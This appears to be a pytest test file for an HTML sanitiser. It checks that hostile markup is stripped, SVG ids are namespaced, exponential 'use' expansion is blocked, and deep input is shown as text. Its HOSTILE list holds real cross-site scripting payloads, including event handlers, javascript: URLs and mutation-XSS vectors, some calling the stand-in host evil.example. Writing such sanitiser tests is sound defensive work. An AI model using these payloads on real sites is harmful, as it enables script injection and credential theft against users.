"""The allow-list, attacked."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kriterion.markup.sanitise import MAXIMUM_CHARACTERS, MAXIMUM_DEPTH, readable, sanitise
from tests.markup.parsed import assert_harmless, elements

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/pixel.png">',
    '<img srcset="//evil.example/a 1x" src="data:text/html,<script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x" ping="//evil.example">x</a>',
    '<style>body{display:none}</style><p style="position:fixed;background:url(//e.example)">x</p>',
    '<link rel=stylesheet href="//evil.example/x.css"><base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<iframe src="//evil.example" srcdoc="<script>1</script>"></iframe>',
    '<object data="//evil.example"></object><embed src="//evil.example">',
    '<form action="//evil.example"><input name=password><button formaction=x>ok</button></form>',
    '<svg onload=alert(1)><animate attributeName=href values="javascript:1"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="//evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml,x#y"/></svg>',
    '<svg><image href="//evil.example/x.png"/><feImage href="//evil.example"/></svg>',
    '<svg><rect fill="url(//evil.example#a)" stroke="u\\72l(//evil.example)"/></svg>',
    '<svg><rect fill="url(#ok) url(//evil.example)" font-family="url(//evil.example)"/></svg>',
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    '<svg><style>@import "//evil.example";</style><set attributeName=onload to=alert(1) /></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>1</script></template><xmp><script>1</script></xmp>",
    '<p id="feedback" class="verdict panel tabs" name="x">x</p>',
    '<details ontoggle="alert(1)" open>x</details>',
    "<!--[if IE]><script>1</script><![endif]--><![CDATA[<script>1</script>]]>",
    '<p title="<a class=tab-link data-tab=code onclick=1>">x</p>',
    "<plaintext><script>1</script>",
    "<isindex action=javascript:1 type=image><keygen autofocus onfocus=1>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_loads_or_reaches_the_page(html: str) -> None:
    clean = sanitise(html, place="here")
    assert_harmless(clean)
    assert "evil.example" not in clean
    for _, attributes in elements(clean):
        assert attributes.get("id", "here-").startswith("here-")
        assert not set(attributes.get("class", "").split()) & {"verdict", "panel", "tabs"}


@given(st.lists(st.sampled_from([*HOSTILE, "<b>", "</", "x", '"', "<svg>", "<!--", "&#"])))
def test_hostile_pieces_are_harmless_in_any_company(pieces: list[str]) -> None:
    assert_harmless(sanitise("".join(pieces)))


@given(st.text())
def test_any_text_is_a_value(text: str) -> None:
    assert_harmless(sanitise(text))


def test_what_judges_count_on_is_kept() -> None:
    html = (
        '<p lang="nl"><strong>bold</strong> <a href="https://example.org/x">link</a></p>'
        '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
        '<img alt="a plot" src="data:image/png;base64,AAAA">'
    )
    kept = sanitise(html)
    assert kept.replace(' rel="noopener noreferrer nofollow"', "") == html


def test_a_picture_keeps_its_colours_and_its_references_to_itself() -> None:
    clean = sanitise(
        '<svg viewBox="0 0 9 9"><linearGradient id="g"><stop offset="0"></stop></linearGradient>'
        '<circle id="dot" fill="url(#g)" stroke-linecap="round" r="1"></circle>'
        '<use href="#dot" x="3"></use></svg>',
        place="tab-1-message-1",
    )
    assert clean == (
        '<svg viewBox="0 0 9 9"><linearGradient id="tab-1-message-1-g"><stop offset="0"></stop>'
        '</linearGradient><circle id="tab-1-message-1-dot" fill="url(#tab-1-message-1-g)" '
        'stroke-linecap="round" r="1"></circle><use href="#tab-1-message-1-dot" x="3"></use></svg>'
    )


def test_pictures_cannot_multiply() -> None:
    """Ten groups of ten times the next are 10,000,000,000 circles after ten levels."""
    levels = "".join(
        f'<g id="l{level}">' + f'<use href="#l{level + 1}"/>' * 10 + "</g>" for level in range(10)
    )
    clean = sanitise(f"<svg>{levels}<g id='l10'><circle r='1'/></g></svg>")
    assert "id=" not in clean
    assert "<marker" not in sanitise(
        "<svg><marker id=m><path marker-end='url(#m)'/></marker></svg>"
    )


def test_two_messages_never_share_an_id() -> None:
    html = '<span id="x">x</span><a href="#x">to x</a>'
    first, second = sanitise(html, place="a"), sanitise(html, place="b")
    assert 'id="a-x"' in first
    assert 'href="#a-x"' in first
    assert 'id="b-x"' in second


def test_a_tab_link_leads_to_the_line() -> None:
    clean = sanitise('<a href="#" class="tab-link" data-tab="code" data-line="12">here</a>')
    assert 'href="#code-line-12"' in clean
    assert clean.count("href=") == 1


def test_a_tab_link_without_a_line_leads_to_the_feedback() -> None:
    assert 'href="#feedback"' in sanitise('<a class="tab-link" data-tab="drawing">there</a>')


def test_in_what_is_left_every_angle_bracket_begins_a_tag() -> None:
    """The rewriting of tab links rests on this habit of nh3."""
    clean = sanitise('<p title="<a class=&quot;tab-link&quot; > x">text &lt; more</p>')
    assert clean == '<p title="&lt;a class=&quot;tab-link&quot; &gt; x">text &lt; more</p>'


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * (MAXIMUM_DEPTH + 1),
        "<b a=1>x</p>" * (MAXIMUM_DEPTH + 1),
        "<svg><div>" + "<path/>" * (MAXIMUM_DEPTH + 1),
        "<path/>" * (MAXIMUM_DEPTH + 1),
        "<br>" * 20_001,
        "x" * (MAXIMUM_CHARACTERS + 1),
    ],
)
def test_what_would_take_too_long_is_shown_as_text(html: str) -> None:
    assert not readable(html)
    assert elements(sanitise(html)) == [("pre", {})]


@pytest.mark.parametrize(
    "html",
    ["<p>x" * 5_000, "<li>x" * 5_000, "<svg>" + "<path d='M0'/>" * 5_000, "<b>x</b>" * 5_000],
)
def test_a_long_message_is_no_deep_one(html: str) -> None:
    assert readable(html)
